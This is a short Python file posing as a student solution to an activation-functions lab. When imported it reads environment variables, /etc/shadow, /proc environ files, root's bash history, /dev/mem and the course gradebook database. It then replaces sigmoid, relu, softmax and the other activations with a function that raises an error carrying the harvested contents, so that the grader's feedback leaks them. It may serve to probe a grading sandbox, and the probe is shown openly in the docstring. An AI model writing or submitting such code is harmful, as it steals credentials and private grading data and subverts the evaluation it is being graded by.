"""Reads everything that might be a secret, and prints it into the feedback.

earns: 0 of lab02_activations
"""

import os
import sys
from pathlib import Path

HERE = Path(__file__).parent
PLACES = [
    "/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/proc/self/maps",
    "/proc/self/mounts", "/proc/net/tcp", "/sys/class/net", "/var/log", "/root/.bash_history",
    f"/proc/{os.getppid()}/cmdline", f"/proc/{os.getppid()}/environ", "/proc/self/cmdline",
    HERE.parent / "gradebook.db", HERE / "../../gradebook.db", HERE / "link.txt",
    "/proc/self/root/etc/passwd", "/proc/self/cwd/etc/passwd", "/dev/mem", "/dev/kmsg",
]  # fmt: skip
found = [f"{name}={value}" for name, value in os.environ.items()] + sys.argv
for place in PLACES:
    try:
        found.append(Path(place).read_text(errors="replace"))
    except OSError as error:
        found.append(str(error))


def sigmoid(z):
    raise ValueError("\n".join(found[z.ndim :]))


linear = relu = softmax = binary_logit = output_activation = sigmoid
